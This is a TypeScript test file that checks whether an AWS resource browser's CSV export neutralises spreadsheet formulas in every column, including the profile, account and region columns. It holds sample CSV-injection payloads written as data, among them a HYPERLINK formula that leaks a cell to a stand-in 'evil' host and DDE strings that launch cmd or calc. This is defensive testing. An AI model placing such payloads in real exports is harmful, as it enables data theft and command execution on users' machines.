// Every view's CSV export neutralises spreadsheet formulas (OWASP's CSV injection advice): for each
// column of each descriptor, a page is built whose item makes that column's path yield a hostile
// value, listed through the real listing (the rows `e` exports), written with toCsv and read back.
// The Profile/Account/Region columns of views across profiles and regions are covered the same way.
import jmespath from 'jmespath';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../support/csv.js';
import { resourceViews } from '../../../services/index.js';
import type { ColumnSpec } from '../../../services/types.js';
import { toCsv } from '../../../src/app/browse/export.js';
import { PROFILE_COLUMNS, REGION_COLUMN, startFanOut } from '../../../src/app/browse/fan-out.js';
import { startListing, type Listing } from '../../../src/app/browse/listing.js';

// A leading =, +, -, @, tab or carriage return makes a spreadsheet run the cell.
const hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];

interface Node { type: string; name?: string; value?: unknown; children?: Node[] }

/** Data on which `node` evaluates to `value`: the path run backwards (the shapes views use). */
function forge(node: Node, value: unknown): unknown {
  const [a, b, c] = node.children ?? [];
  switch (node.type) {
    case 'Identity': return value;
    case 'Field': return { [node.name!]: value };
    case 'Subexpression': case 'Pipe': return forge(a, forge(b, value));
    case 'OrExpression': return forge(a, value);
    case 'Index': return Object.assign(new Array((node.value as number) + 1).fill(null), { [node.value as number]: value });
    case 'IndexExpression': return forge(a, forge(b, value));
    case 'Flatten': return forge(a, [value]);
    case 'Projection': return forge(a, (value as unknown[]).map((v) => forge(b, v)));
    case 'FilterProjection': {
      // `Tags[?Key=='Name'].Value`: each element also carries the compared field's literal.
      const [field, literal] = c.children!;
      return forge(a, (value as unknown[]).map((v) => ({ ...(forge(b, v) as object), [field.name!]: literal.value })));
    }
    default: throw new Error(`cannot forge ${node.type}`);
  }
}

// The runtime has compile (the AST); its typings do not declare it.
const compile = (path: string) => (jmespath as unknown as { compile(p: string): Node }).compile(path);
const usesFunction = (node: Node): boolean => node.type === 'Function' || (node.children ?? []).some((c) => c && typeof c === 'object' && usesFunction(c));

function staticListing(page: Record<string, unknown>, items: string[], columns: ColumnSpec[]): Listing {
  return startListing({
    items, columns, scope: {},
    open: async () => ({ feed: { resultKeys: [], pages: (async function* none() {})() }, first: { done: false, value: page } }),
  });
}

const exported = (listing: Listing) => parseCsv(toCsv(listing.columns.map((c) => c.title), listing.rows.map((r) => r.values)));

describe('exports neutralise formulas in every view', () => {
  for (const view of resourceViews) {
    it(`${view.id}: a hostile value in any column is exported with a leading quote`, async () => {
      for (const [index, column] of view.columns.entries()) {
        const path = compile(column.path);
        if (usesFunction(path)) {
          // Only counts (length(…)) are computed: numbers, never text a spreadsheet could run.
          expect(column.path).toMatch(/^length\(/);
          continue;
        }
        for (const value of hostile) {
          const item = forge(path, value) as Record<string, unknown>;
          expect(jmespath.search(item, column.path)).toBe(value);
          // The item's source is the last one (S3: objects after folders), so `Key || Prefix` is a key.
          const page = forge(compile(view.items[view.items.length - 1]), [item]) as Record<string, unknown>;
          const listing = staticListing(page, view.items, view.columns);
          await listing.finished;
          expect(listing.rows).toHaveLength(1);
          const [titles, cells] = exported(listing);
          expect(titles).toEqual(view.columns.map((c) => c.title));
          expect(cells[index]).toBe(`'${value}`);
          for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    });
  }

  it('Profile, Account and Region of views across profiles and regions are neutralised too', async () => {
    const instances = resourceViews.find((v) => v.id === 'ec2.instances')!;
    const page = { Reservations: [{ Instances: [{ InstanceId: 'i-1' }] }] };
    const listing = startFanOut({
      lead: PROFILE_COLUMNS, columns: [REGION_COLUMN, ...instances.columns], noun: 'profiles',
      parts: async () => ({ parts: [{ key: 'p', values: ['=cmd|calc', '+123456789012'], where: { profile: '=cmd|calc', account: '+123456789012' } }] }),
      listingIn: () => startFanOut({
        lead: [REGION_COLUMN], columns: instances.columns, noun: 'regions',
        parts: async () => ({ parts: [{ key: '@region', values: ['@region'], where: { region: '@region' } }] }),
        listingIn: () => staticListing(page, instances.items, instances.columns),
      }),
    });
    await listing.finished;
    const [titles, cells] = exported(listing);
    expect(titles.slice(0, 4)).toEqual(['Profile', 'Account', 'Region', 'Instance']);
    expect(cells.slice(0, 4)).toEqual(["'=cmd|calc", "'+123456789012", "'@region", 'i-1']);
  });
});
